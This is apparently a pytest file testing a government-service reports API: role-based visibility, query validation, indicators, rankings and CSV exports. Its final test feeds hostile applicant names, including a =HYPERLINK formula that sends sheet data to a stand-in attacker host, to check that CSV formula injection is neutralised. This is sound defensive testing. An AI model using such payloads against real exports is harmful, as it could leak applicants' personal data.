"""/api/reports and a dossier's path over HTTP: same figures as the service, same visibility rules."""
from __future__ import annotations

import pytest

from tests.support import report_data as data
from tests.support.report_data import A, B, NOW


@pytest.fixture
def loaded(api, app, services, clock):
    data.load(services.ctx.uow)
    clock.set(NOW)
    api.refresh_tokens(app)
    return api


def test_ontime_by_agency_for_the_control_office(loaded):
    r = loaded.get("control", "/api/reports/ontime?period=2026-11")
    assert r.status_code == 200, r.json
    rows = {row["agency_id"]: row for row in r.json["rows"]}
    assert {k: rows[A][k] for k in data.EXPECTED_NOVEMBER[A]} == data.EXPECTED_NOVEMBER[A]
    assert r.json["total"]["received"] == 13 and r.json["as_of"] == "2026-12-01T00:00:00+07:00"
    trend = loaded.get("control", "/api/reports/ontime?period=2026-Q4&grain=month&by=&agency=" + A).json
    assert [row["period"] for row in trend["rows"]] == ["2026-10", "2026-11", "2026-12"]


def test_agency_head_sees_own_agency_and_officials_none(loaded):
    own = loaded.get("head", "/api/reports/ontime?period=2026-11").json  # head of A
    assert [row["agency_id"] for row in own["rows"]] == [A]
    assert loaded.get("head", f"/api/reports/ontime?period=2026-11&agency={B}").status_code == 403
    assert loaded.get("an", "/api/reports/ontime?period=2026-11").status_code == 403
    assert loaded.get("an", "/api/reports/register?period=2026-11").status_code == 403
    assert loaded.get("head", "/api/reports/ranking?period=2026-11").status_code == 200  # published


@pytest.mark.parametrize("query, field", [("period=2026-13", "period"), ("period=2026-11&by=colour", "group_by"),
                                          ("period=2026-11&grain=week", "grain"), ("", "period")])
def test_bad_query_is_a_problem_naming_the_field(loaded, query, field):
    r = loaded.get("control", f"/api/reports/ontime?{query}")
    assert r.status_code in (400, 422) and r.mimetype == "application/problem+json"
    assert field in [e["field"] for e in r.json["errors"]]


def test_indicators_ranking_and_register(loaded):
    ind = loaded.get("control", "/api/reports/indicators?period=2026-11").json
    a = next(row for row in ind["rows"] if row["agency_id"] == A)
    assert a["values"]["online_share"]["value"] == pytest.approx(40.0)  # 4 of 10 received online
    # no feedback case nor rating in this data set: complaints 0 %, composite 100 − (late 2/6 + 0) (N-9)
    assert a["values"]["composite"]["value"] == pytest.approx(100 - 100 * 2 / 6)
    assert a["values"]["satisfaction"]["value"] is None and "no rating" in a["values"]["satisfaction"]["note"]
    assert {i["code"]: i["source"] for i in ind["indicators"]}["composite"].startswith("N-9")
    ranking = loaded.get("control", "/api/reports/ranking?period=2026-11").json
    assert [(row["rank"], row["agency_id"]) for row in ranking["rows"]] == [(1, B), (2, A)]
    reg = loaded.get("control", f"/api/reports/register?period=2026-11&agency={B}&limit=2").json
    assert reg["truncated"] is True and [row["code"] for row in reg["rows"]] == [f"{B}-0014", f"{B}-0015"]
    assert reg["rows"][0]["applicant_name"] == "Nguyễn Thị Hồ Sơ 14"


def test_dossier_path_has_the_same_visibility_as_the_dossier(api):
    d = api.register()
    r = api.get("desk", f"/api/dossiers/{d['id']}/path")
    assert r.status_code == 200
    assert r.json["current"] == ["receive"] and r.json["completed"] == [] and "<" in r.json["diagram"]
    assert r.json["sheet"][0]["element_id"] == "receive"
    assert api.get("other", f"/api/dossiers/{d['id']}/path").status_code == 404


def test_csv_downloads_have_a_bom_and_the_documented_columns(loaded):
    import csv
    import io

    r = loaded.get("control", "/api/reports/ontime.csv?period=2026-11&by=agency,field")
    assert r.status_code == 200 and r.mimetype == "text/csv"
    assert r.data.startswith(b"\xef\xbb\xbf") and "attachment" in r.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(r.data.decode("utf-8-sig"))))
    assert {(row["agency_name"], row["field"]) for row in rows[:-1]} >= {("Phòng Kinh tế", "Đất đai")}
    assert rows[-1]["period"] == "total" and rows[-1]["received"] == "13"
    reg = loaded.get("head", "/api/reports/register.csv?period=2026-11").data.decode("utf-8-sig")
    assert reg.splitlines()[0].startswith("code,procedure_code,procedure_name,agency_id,applicant_name")
    assert "Nguyễn Thị Hồ Sơ 1," in reg and "Nguyễn Thị Hồ Sơ 14" not in reg  # the head of A: A's dossiers only
    for path in ("indicators.csv", "ranking.csv"):
        assert loaded.get("control", f"/api/reports/{path}?period=2026-11").data.startswith(b"\xef\xbb\xbf")
    assert loaded.get("an", "/api/reports/ontime.csv?period=2026-11").status_code == 403


def test_csv_cells_typed_by_applicants_never_run_as_spreadsheet_formulas(api):
    # R-8.4 (CSV / formula injection, OWASP): a name typed by an applicant or at the desk that starts
    # with = + - @ (or a tab / carriage return before one) is a formula when the control office opens
    # the register in a spreadsheet program (=HYPERLINK can send the sheet's data away). Such a text
    # cell is written with a leading apostrophe, which spreadsheets show as text; others unchanged.
    import csv
    import io

    hostile = ['=HYPERLINK("http://evil.example/?"&A2,"Xem")', "+84905123456", "-2+3", "@SUM(A1:A9)",
               "\t=1+1", "\r=1+1"]
    for name in [*hostile, "Nguyễn Văn An"]:
        api.register(applicant={"name": name})
    r = api.get("control", "/api/reports/register.csv?period=2026-11")
    assert r.status_code == 200
    names = [row["applicant_name"] for row in csv.DictReader(io.StringIO(r.data.decode("utf-8-sig")))]
    assert sorted(names) == sorted(["'" + n.strip() if n.strip() != n else "'" + n for n in hostile]
                                   + ["Nguyễn Văn An"]), names
